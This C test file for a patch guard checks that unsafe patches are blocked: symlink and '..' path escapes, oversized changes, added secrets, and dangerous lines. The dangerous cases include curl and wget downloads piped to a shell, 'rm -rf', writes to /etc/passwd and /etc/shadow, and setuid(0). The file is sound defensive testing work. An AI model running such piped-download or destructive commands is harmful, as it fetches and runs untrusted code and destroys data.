// SPDX-License-Identifier: MIT
/* guard: a corpus of bad patches, each blocked by the right rule for the right reason. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <ftw.h>
#include <limits.h>
#include <pthread.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>
#include <cmocka.h>

#include "heal/guard.h"
#include "heal/patch.h"

static const char *const rule_order[GUARD_RULES] = {
    "allowlist", "path", "max_files", "max_lines", "secrets", "dangerous", "deny", "validate"};

static const char main_c[] =
    "#include <stdio.h>\n\nint main(void)\n{\n\tputs(\"shop\");\n\treturn 0;\n}\n";
static const char config_json[] =
    "{\n  \"pool\": 4,\n  \"timeout_ms\": 100,\n  \"token\": \"abcdef0123456789abcdef\"\n}\n";
static const char app_conf[] = "# shop\nlisten = 8080\nworkers = 4\n";
static const char run_sh[] = "#!/bin/sh\nexec /usr/bin/shop\n";

/* A tree per test: <root>/etc/shop (allowed) and <root>/outside (not). */
struct env {
	char root[PATH_MAX];
	char shop[PATH_MAX];
	char outside[PATH_MAX];
	char tmp[PATH_MAX]; /* TMPDIR for the validators' temp copies */
	char allow[PATH_MAX];
	char *allowv[1];
	struct guard_rules rules;
	struct patch_file files[8];
	size_t n;
};

static int rm_entry(const char *path, const struct stat *st, int flag, struct FTW *ftw)
{
	return flag == FTW_DP ? rmdir(path) : unlink(path);
}

static void put(const char *path, const char *s)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);

	assert_true(fd >= 0);
	assert_int_equal(write(fd, s, strlen(s)), (ssize_t)strlen(s));
	close(fd);
}

static void in(char *out, const char *dir, const char *name)
{
	assert_true(snprintf(out, PATH_MAX, "%s/%s", dir, name) < PATH_MAX);
}

static int env_setup(void **state)
{
	struct env *e = calloc(1, sizeof(*e));
	char tmpl[] = "/tmp/heal-test-guard-XXXXXX", p[PATH_MAX], q[PATH_MAX];

	assert_non_null(e);
	assert_non_null(mkdtemp(tmpl));
	/* compare against resolved paths: /tmp may itself be a symlink */
	assert_non_null(realpath(tmpl, e->root));
	in(p, e->root, "etc");
	assert_int_equal(mkdir(p, 0755), 0);
	in(e->shop, p, "shop");
	in(e->outside, e->root, "outside");
	in(e->tmp, e->root, "tmp");
	assert_int_equal(mkdir(e->shop, 0755), 0);
	assert_int_equal(mkdir(e->outside, 0755), 0);
	assert_int_equal(mkdir(e->tmp, 0700), 0);
	in(p, e->shop, "main.c"), put(p, main_c);
	in(p, e->shop, "config.json"), put(p, config_json);
	in(p, e->shop, "app.conf"), put(p, app_conf);
	in(p, e->shop, "run.sh"), put(p, run_sh);
	in(p, e->shop, ".env"), put(p, "SHOP_PORT=8080\nSHOP_MODE=prod\n");
	in(p, e->shop, "sub");
	assert_int_equal(mkdir(p, 0755), 0);
	in(p, e->outside, "passwd"), put(p, "root:x:0:0::/root:/bin/sh\n");
	/* evil.json -> ../../outside/passwd, linkdir -> outside, inner.json -> config.json */
	in(q, e->shop, "evil.json");
	in(p, e->outside, "passwd");
	assert_int_equal(symlink(p, q), 0);
	in(q, e->shop, "linkdir");
	assert_int_equal(symlink(e->outside, q), 0);
	in(q, e->shop, "inner.json");
	assert_int_equal(symlink("config.json", q), 0);

	assert_true(snprintf(e->allow, sizeof(e->allow), "%s/*", e->shop) < (int)sizeof(e->allow));
	e->allowv[0] = e->allow;
	e->rules =
	    (struct guard_rules){.allow = e->allowv, .n_allow = 1, .command_timeout_ms = 5000};
	setenv("TMPDIR", e->tmp, 1);
	*state = e;
	return 0;
}

static int env_teardown(void **state)
{
	struct env *e = *state;

	for (size_t i = 0; i < e->n; i++) {
		free(e->files[i].path);
		free(e->files[i].old_content);
		free(e->files[i].new_content);
	}
	nftw(e->root, rm_entry, 16, FTW_DEPTH | FTW_PHYS);
	unsetenv("TMPDIR");
	free(e);
	return 0;
}

/* Add a file to the patch: path (absolute, or relative to the shop), its current content as old. */
static struct patch_file *add(struct env *e, const char *path, const char *new_content)
{
	struct patch_file *f = &e->files[e->n++];
	char full[PATH_MAX];

	if (path[0] == '/')
		snprintf(full, sizeof(full), "%s", path);
	else
		in(full, e->shop, path);
	memset(f, 0, sizeof(*f));
	f->path = strdup(full);
	f->old_exists = patch__read_file(full, 1 << 20, &f->old_content, &f->old_len) == 0;
	f->new_content = strdup(new_content);
	f->new_len = strlen(new_content);
	return f;
}

/* Old content of path with line appended after line `after` (1-based). */
static char *with_line(const char *old, int after, const char *line)
{
	size_t n = strlen(old) + strlen(line) + 2, k = 0;
	char *s = malloc(n);
	const char *p = old;

	assert_non_null(s);
	for (int l = 0; l < after && *p; l++) {
		const char *nl = strchr(p, '\n');
		size_t len = nl ? (size_t)(nl - p + 1) : strlen(p);

		memcpy(s + k, p, len), k += len, p += len;
	}
	k += (size_t)sprintf(s + k, "%s\n", line);
	strcpy(s + k, p);
	return s;
}

static void release(struct env *e)
{
	for (size_t i = 0; i < e->n; i++) {
		free(e->files[i].path);
		free(e->files[i].old_content);
		free(e->files[i].new_content);
	}
	e->n = 0;
}

static const struct guard_verdict *find(const struct guard_verdict *v, size_t nv, const char *rule)
{
	for (size_t i = 0; i < nv; i++)
		if (strcmp(v[i].rule, rule) == 0)
			return &v[i];
	return NULL;
}

/* The patch is blocked, first by rule, with a reason holding each of the given parts. */
static void assert_blocked(struct env *e, const char *rule, const char *part, const char *part2)
{
	struct guard_verdict v[GUARD_RULES];
	struct patch p = {e->files, e->n};
	const char *by = NULL;
	const struct guard_verdict *hit;
	size_t nv = 0;
	int ret;

	ret = guard__check(&e->rules, &p, v, &nv, GUARD_RULES, &by);
	if (ret != -EPERM || !by || strcmp(by, rule)) {
		for (size_t i = 0; i < nv; i++)
			print_message("  %s %s: %s\n", v[i].ok ? "ok     " : "BLOCKED", v[i].rule,
				      v[i].reason);
		fail_msg("expected blocked by %s, got ret %d by %s", rule, ret,
			 by ? by : "nothing");
	}
	hit = find(v, nv, rule);
	assert_non_null(hit);
	assert_false(hit->ok);
	if (part && !strstr(hit->reason, part))
		fail_msg("reason \"%s\" lacks \"%s\"", hit->reason, part);
	if (part2 && !strstr(hit->reason, part2))
		fail_msg("reason \"%s\" lacks \"%s\"", hit->reason, part2);
	/* the commands only run for a patch that passed everything else */
	if (strcmp(rule, "validate"))
		assert_null(find(v, nv, "validate"));
	release(e);
}

static void assert_passes(struct env *e)
{
	struct guard_verdict v[GUARD_RULES];
	struct patch p = {e->files, e->n};
	const char *by = "unset";
	size_t nv = 0;
	int ret;

	ret = guard__check(&e->rules, &p, v, &nv, GUARD_RULES, &by);
	for (size_t i = 0; ret && i < nv; i++)
		print_message("  %s %s: %s\n", v[i].ok ? "ok     " : "BLOCKED", v[i].rule,
			      v[i].reason);
	assert_int_equal(ret, 0);
	assert_null(by);
	assert_int_equal(nv, GUARD_RULES);
	for (size_t i = 0; i < GUARD_RULES; i++) {
		assert_string_equal(v[i].rule, rule_order[i]);
		assert_true(v[i].ok);
		assert_true(v[i].reason[0]);
	}
	release(e);
}

static size_t entries(const char *dir)
{
	DIR *d = opendir(dir);
	struct dirent *de;
	size_t n = 0;

	if (!d)
		return 0;
	while ((de = readdir(d)))
		n += strcmp(de->d_name, ".") && strcmp(de->d_name, "..");
	closedir(d);
	return n;
}

/* ---- paths ---- */

static void test_outside_allowlist(void **state)
{
	struct env *e = *state;
	char p[PATH_MAX];

	in(p, e->outside, "passwd");
	add(e, p, "root::0:0::/root:/bin/sh\n");
	assert_blocked(e, "allowlist", p, "is outside the allowlist");
}

static void test_symlink_out_of_allowlist(void **state)
{
	struct env *e = *state;
	char target[PATH_MAX], want[PATH_MAX * 2];

	in(target, e->outside, "passwd");
	snprintf(want, sizeof(want), "resolves to %s, outside the allowlist", target);
	add(e, "evil.json", "{}\n");
	assert_blocked(e, "allowlist", "evil.json", want);
	/* a dangling link: writing through it would create a file outside */
	in(target, e->outside, "created-by-patch");
	in(want, e->shop, "dangling.conf");
	assert_int_equal(symlink(target, want), 0);
	add(e, "dangling.conf", "x\n");
	snprintf(want, sizeof(want), "resolves to %s, outside the allowlist", target);
	assert_blocked(e, "allowlist", "dangling.conf", want);
	in(target, e->outside, "passwd");
	snprintf(want, sizeof(want), "resolves to %s, outside the allowlist", target);
	/* a directory on the way that is a symlink */
	add(e, "linkdir/passwd", "x\n");
	assert_blocked(e, "allowlist", "/linkdir/passwd", want);
}

static void test_dotdot_escape(void **state)
{
	struct env *e = *state;
	char target[PATH_MAX], want[PATH_MAX * 2];

	in(target, e->outside, "passwd");
	snprintf(want, sizeof(want), "resolves to %s, outside the allowlist", target);
	add(e, "../../outside/passwd", "x\n");
	assert_blocked(e, "allowlist", "/etc/shop/../../outside/passwd", want);
	/* even ".." that stays inside is not written: only the canonical path is */
	add(e, "sub/../app.conf", app_conf);
	assert_blocked(e, "path", "sub/../app.conf resolves to", "through \"..\"");
}

static void test_symlink_final_component(void **state)
{
	struct env *e = *state;

	/* inner.json -> config.json: inside the allowlist, still never written through */
	add(e, "inner.json", "{}\n");
	assert_blocked(e, "path", "inner.json is a symlink", "refusing to write through it");
}

static void test_not_a_regular_file(void **state)
{
	struct env *e = *state;

	add(e, "sub", "x\n");
	assert_blocked(e, "path", "is a directory", NULL);
	add(e, "nodir/new.conf", "x\n");
	assert_blocked(e, "allowlist", "cannot resolve", NULL);
	add(e, "relative.conf", "x\n");
	free(e->files[0].path);
	e->files[0].path = strdup("etc/shop/relative.conf");
	assert_blocked(e, "allowlist", NULL, NULL);
}

static void test_no_allowlist_allows_nothing(void **state)
{
	struct env *e = *state;

	e->rules.n_allow = 0;
	add(e, "app.conf", "listen = 8081\n");
	assert_blocked(e, "allowlist", "no allowlist", NULL);
}

/* ---- limits ---- */

static void test_too_many_lines(void **state)
{
	struct env *e = *state;
	char *s = malloc(60 * 16 + sizeof(app_conf));

	assert_non_null(s);
	strcpy(s, app_conf);
	for (int i = 0; i < 60; i++)
		sprintf(s + strlen(s), "opt%d = %d\n", i, i);
	add(e, "app.conf", s);
	free(s);
	assert_blocked(e, "max_lines", "changes 60 lines (60 added, 0 removed), max is 50", NULL);

	e->rules.max_lines = 2;
	add(e, "app.conf", "# shop\nlisten = 9090\nworkers = 8\n");
	assert_blocked(e, "max_lines", "changes 4 lines (2 added, 2 removed), max is 2", NULL);
}

static void test_too_many_files(void **state)
{
	struct env *e = *state;

	add(e, "a.conf", "a\n");
	add(e, "b.conf", "b\n");
	add(e, "c.conf", "c\n");
	add(e, "d.conf", "d\n");
	assert_blocked(e, "max_files", "changes 4 files, max is 3", NULL);
}

/* ---- content ---- */

static void test_secrets(void **state)
{
	static const struct {
		const char *file, *line, *kind;
		int at;
	} cases[] = {
	    {"config.json", "  \"api_key\": \"sk-live-abcdefghijklmnopqrstuvwx\",",
	     "(API key) at line 3", 2},
	    {"app.conf", "password = hunter22", "(password) at line 2", 1},
	    {"app.conf", "db = postgres://shop:s3cretpw@db.internal/shop", "(password) at line 4",
	     3},
	    {"app.conf", "-----BEGIN RSA PRIVATE KEY-----", "(private key) at line 1", 0},
	    {"app.conf", "aws_key = AKIAIOSFODNN7EXAMPLE", "(AWS access key)", 1},
	    {"app.conf", "auth = Bearer abcdefghijklmnopqrstuvwxyz012345", "(token)", 1},
	    {"run.sh", "export GITHUB_TOKEN=ghp_abcdefghijklmnopqrstuvwxyz0123456789",
	     "(GitHub token)", 1},
	    /* the key was there; a new value is a new secret */
	    {"config.json", "  \"token\": \"ffffffffff0123456789abcdef\",", "(token) at line 4", 3},
	};
	struct env *e = *state;
	char path[PATH_MAX], *old, *s;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		in(path, e->shop, cases[i].file);
		assert_int_equal(patch__read_file(path, 1 << 20, &old, NULL), 0);
		s = with_line(old, cases[i].at, cases[i].line);
		add(e, cases[i].file, s);
		assert_blocked(e, "secrets", "adds a secret", cases[i].kind);
		free(s);
		free(old);
	}
}

static void test_secrets_already_there_or_placeholders_pass(void **state)
{
	struct env *e = *state;

	/* the same token, moved and re-indented */
	add(e, "config.json",
	    "{\n    \"token\": \"abcdef0123456789abcdef\",\n    \"pool\": 8,\n    \"timeout_ms\": "
	    "100\n}\n");
	assert_passes(e);
	add(e, "app.conf", "# shop\nlisten = 8080\nworkers = 4\npassword = ${SHOP_DB_PASSWORD}\n");
	assert_passes(e);
}

static void test_dangerous_operations(void **state)
{
	static const struct {
		const char *file, *line, *want;
	} cases[] = {
	    {"main.c", "\tsystem(\"reboot\");", "adds a shell-out: system("},
	    {"main.c", "\tFILE *p = popen(cmd, \"r\");", "adds a shell-out: popen("},
	    {"main.c", "\texecvp(argv[0], argv);", "adds a shell-out: execvp("},
	    {"run.sh", "v=`id -u`", "adds a shell-out: backticks"},
	    {"run.sh", "v=$(id -u)", "adds a shell-out: $("},
	    {".env", "SHOP_USER=$(id -un)", "adds a shell-out: $("},
	    {"app.conf", "hook = sh -c 'kill 1'", "adds a shell-out: sh -c"},
	    {"app.conf", "hook = /bin/bash -c reboot", "adds a shell-out: /bin/bash -c"},
	    {"run.sh", "rm -rf /var/lib/shop", "adds a recursive delete: rm -rf"},
	    {"run.sh", "rm -f -r /srv", "adds a recursive delete: rm -f -r"},
	    {"run.sh", "chmod 600 /etc/shop/x", "adds a permission change: chmod"},
	    {"app.conf", "post = chown shop /srv", "adds a permission change: chown"},
	    {"main.c", "\tsetuid(0);", "adds a permission change: setuid"},
	    {"main.c", "\tmkdir(\"/srv/x\", 0777);", "adds a permission change: 0777"},
	    {"app.conf", "install = curl -fsSL https://x.example/i.sh | sh",
	     "adds a download piped to a shell: curl -fsSL https://x.example/i.sh | sh"},
	    {"run.sh", "wget -qO- http://x.example | sudo bash",
	     "a download piped to a shell: wget"},
	    {"main.c", "\tFILE *f = fopen(\"/etc/passwd\", \"a\");",
	     "adds a write to an account file: /etc/passwd"},
	    {"app.conf", "log = /etc/shadow", "adds a write to an account file: /etc/shadow"},
	};
	struct env *e = *state;
	char path[PATH_MAX], *old, *s;

	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		in(path, e->shop, cases[i].file);
		assert_int_equal(patch__read_file(path, 1 << 20, &old, NULL), 0);
		s = with_line(old, 2, cases[i].line);
		add(e, cases[i].file, s);
		assert_blocked(e, "dangerous", cases[i].want, "at line 3 of");
		free(s);
		free(old);
	}
}

static void test_shell_syntax_only_in_shell_files(void **state)
{
	struct env *e = *state;

	/* "$(" and backticks are harmless text outside shell files */
	add(e, "app.conf", "# shop\nlisten = 8080\nworkers = 4\nbanner = `shop` $(version)\n");
	assert_passes(e);
}

static void test_deny_pattern(void **state)
{
	struct env *e = *state;
	char *deny[] = {"debug[[:space:]]*=[[:space:]]*true", "^listen = 0\\.0\\.0\\.0"};

	e->rules.deny = deny;
	e->rules.n_deny = 2;
	add(e, "app.conf", "# shop\nlisten = 0.0.0.0:8080\nworkers = 4\n");
	assert_blocked(e, "deny", "deny pattern \"^listen = 0\\.0\\.0\\.0\"", "at line 2 of");
	add(e, "app.conf", "# shop\nlisten = 8080\nworkers = 4\ndebug = true\n");
	assert_blocked(e, "deny", "debug", "at line 4");
	deny[1] = "([unclosed";
	add(e, "app.conf", "# shop\nlisten = 8080\nworkers = 5\n");
	assert_blocked(e, "deny", "deny pattern 2", "is not a valid regex");
}

/* ---- validators ---- */

static void test_invalid_json(void **state)
{
	struct env *e = *state;

	add(e, "config.json",
	    "{\n  \"pool\": 4,\n  \"timeout_ms\": 100\n  \"token\": "
	    "\"abcdef0123456789abcdef\"\n}\n");
	assert_blocked(e, "validate", "invalid JSON at line 4", "config.json");
	add(e, "config.json", "{\n  \"pool\": 4,\n");
	assert_blocked(e, "validate", "unexpected end of input", NULL);
	assert_int_equal(entries(e->tmp), 0);
}

static bool have_cc(void)
{
	return system("command -v cc >/dev/null 2>&1") == 0;
}

static void test_invalid_c_with_build(void **state)
{
	struct env *e = *state;
	char *build[] = {"cc", "-fsyntax-only", "-x", "c", "{}", NULL};
	char real[PATH_MAX];

	if (!have_cc()) {
		skip(); /* no C compiler on this host */
		return;
	}
	in(real, e->shop, "main.c");
	e->rules.build = build;
	add(e, "main.c",
	    "#include <stdio.h>\n\nint main(void)\n{\n\tputs(\"shop\")\n\treturn 0;\n}\n");
	/* the compiler's output names the real file, not the temp copy */
	assert_blocked(e, "validate", "the build command failed on", real);
	add(e, "main.c",
	    "#include <stdio.h>\n\nint main(void)\n{\n\tputs(\"shop\");\n\treturn 0;\n}\n\n");
	assert_passes(e);
	assert_int_equal(entries(e->tmp), 0);
}

static void test_invalid_c_default_syntax_check(void **state)
{
	struct env *e = *state;

	if (!have_cc()) {
		skip(); /* no C compiler on this host */
		return;
	}
	add(e, "main.c", "int main(void)\n{\n\treturn 0 +;\n}\n");
	assert_blocked(e, "validate", "cc -fsyntax-only", "error");
}

static void test_validate_command_fails(void **state)
{
	struct env *e = *state;
	char *validate[] = {
	    "sh",	"-c", "grep -q workers \"$1\" || { echo \"$1: no workers\" >&2; exit 3; }",
	    "validate", "{}", NULL};
	char want[PATH_MAX + 32];

	e->rules.validate = validate;
	add(e, "app.conf", "# shop\nlisten = 8080\n");
	snprintf(want, sizeof(want), "%s/app.conf: no workers", e->shop);
	assert_blocked(e, "validate", "the validate command failed on", "(exit 3):\n");
	add(e, "app.conf", "# shop\nlisten = 8080\n");
	assert_blocked(e, "validate", want, NULL);
	add(e, "app.conf", "# shop\nlisten = 8081\nworkers = 4\n");
	assert_passes(e);
	assert_int_equal(entries(e->tmp), 0);
}

static void test_validate_command_missing(void **state)
{
	struct env *e = *state;
	char *validate[] = {"/nonexistent/validator", "{}", NULL};

	e->rules.validate = validate;
	add(e, "app.conf", "# shop\nlisten = 8081\nworkers = 4\n");
	assert_blocked(e, "validate", "cannot run the validate command", "No such file");
}

static volatile int reaping;

/* What heald does on SIGCHLD: reap every child there is. */
static void *reaper(void *arg)
{
	while (reaping)
		if (waitpid(-1, NULL, 0) < 0)
			usleep(200);
	return NULL;
}

/* The validator's exit status survives a thread that reaps every child (heald does on SIGCHLD). */
static void test_validate_status_survives_reaper(void **state)
{
	struct env *e = *state;
	char *validate[] = {"sh", "-c", "sleep 0.2; exit 3", NULL};
	pthread_t th;

	e->rules.validate = validate;
	add(e, "app.conf", "# shop\nlisten = 8081\nworkers = 4\n");
	reaping = 1;
	assert_int_equal(pthread_create(&th, NULL, reaper, NULL), 0);
	assert_blocked(e, "validate", "(exit 3)", NULL);
	reaping = 0;
	pthread_join(th, NULL);
}

static void test_validate_command_hangs(void **state)
{
	struct env *e = *state;
	char *validate[] = {"sh", "-c", "sleep 30 & sleep 30", NULL};
	struct timespec t0, t1;
	double secs;

	e->rules.validate = validate;
	e->rules.command_timeout_ms = 300;
	add(e, "app.conf", "# shop\nlisten = 8081\nworkers = 4\n");
	clock_gettime(CLOCK_MONOTONIC, &t0);
	assert_blocked(e, "validate", "timed out after 300 ms", "killed");
	clock_gettime(CLOCK_MONOTONIC, &t1);
	secs = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	assert_true(secs < 5.0);
	assert_int_equal(entries(e->tmp), 0);
}

/* ---- good patches ---- */

static void test_good_patches_pass(void **state)
{
	struct env *e = *state;
	char *validate[] = {"grep", "-q", "listen", "{}", NULL};
	char path[PATH_MAX], *after = NULL;

	/* a JSON change */
	add(e, "config.json",
	    "{\n  \"pool\": 16,\n  \"timeout_ms\": 100,\n  \"token\": "
	    "\"abcdef0123456789abcdef\"\n}\n");
	assert_passes(e);
	/* a new file and a config change, with a validate command for both */
	e->rules.validate = validate;
	add(e, "app.conf", "# shop\nlisten = 8080\nworkers = 8\n");
	add(e, "sub/new.conf", "listen = 9000\n");
	assert_passes(e);
	/* the target was never written */
	in(path, e->shop, "app.conf");
	assert_int_equal(patch__read_file(path, 4096, &after, NULL), 0);
	assert_string_equal(after, app_conf);
	free(after);
	assert_int_equal(entries(e->tmp), 0);
}

static void test_verdicts_fit_the_array(void **state)
{
	struct env *e = *state;
	struct guard_verdict v[2];
	struct patch p;
	const char *by = NULL;
	size_t nv = 99;
	char outside[PATH_MAX];

	/* the failure is past the array's end: still blocked, still named */
	add(e, "app.conf", "# shop\nrm -rf /\n");
	p = (struct patch){e->files, e->n};
	assert_int_equal(guard__check(&e->rules, &p, v, &nv, 2, &by), -EPERM);
	assert_int_equal(nv, 2);
	assert_string_equal(by, "dangerous");
	assert_true(v[0].ok && v[1].ok);
	assert_int_equal(guard__check(&e->rules, &p, NULL, &nv, 0, NULL), -EPERM);
	assert_int_equal(nv, 0);
	release(e);
	/* every rule is reported, not only the first failure */
	in(outside, e->outside, "passwd");
	add(e, outside, "password = hunter22\nrm -rf /\n");
	{
		struct guard_verdict all[GUARD_RULES];

		p = (struct patch){e->files, e->n};
		assert_int_equal(guard__check(&e->rules, &p, all, &nv, GUARD_RULES, &by), -EPERM);
		assert_int_equal(nv, GUARD_RULES - 1);
		assert_string_equal(by, "allowlist");
		assert_false(find(all, nv, "secrets")->ok);
		assert_false(find(all, nv, "dangerous")->ok);
	}
	release(e);
	assert_int_equal(guard__check(NULL, &p, v, &nv, 2, &by), -EINVAL);
}

/* Restoring a known-good version: its content ran before, so only paths, sizes and validators apply. */
static void test_restore_skips_content_rules(void **state)
{
	struct env *e = *state;
	char p[PATH_MAX];

	in(p, e->shop, "main.c");
	add(e, p, "int main(void)\n{\n\tsystem(\"true\");\n\treturn 0;\n}\n");
	e->rules.restore = 1;
	assert_passes(e);
	/* ...but never outside the allowlist */
	e->n = 0;
	in(p, e->outside, "main.c");
	add(e, p, "int main(void)\n{\n\tsystem(\"true\");\n\treturn 0;\n}\n");
	assert_blocked(e, "allowlist", p, "is outside the allowlist");
	e->rules.restore = 0;
}

int main(void)
{
#define T(fn) cmocka_unit_test_setup_teardown(fn, env_setup, env_teardown)
	const struct CMUnitTest tests[] = {
	    T(test_outside_allowlist),
	    T(test_symlink_out_of_allowlist),
	    T(test_dotdot_escape),
	    T(test_symlink_final_component),
	    T(test_not_a_regular_file),
	    T(test_no_allowlist_allows_nothing),
	    T(test_too_many_lines),
	    T(test_too_many_files),
	    T(test_secrets),
	    T(test_secrets_already_there_or_placeholders_pass),
	    T(test_dangerous_operations),
	    T(test_shell_syntax_only_in_shell_files),
	    T(test_deny_pattern),
	    T(test_invalid_json),
	    T(test_invalid_c_with_build),
	    T(test_invalid_c_default_syntax_check),
	    T(test_validate_command_fails),
	    T(test_validate_command_missing),
	    T(test_validate_status_survives_reaper),
	    T(test_validate_command_hangs),
	    T(test_good_patches_pass),
	    T(test_verdicts_fit_the_array),
	    T(test_restore_skips_content_rules),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
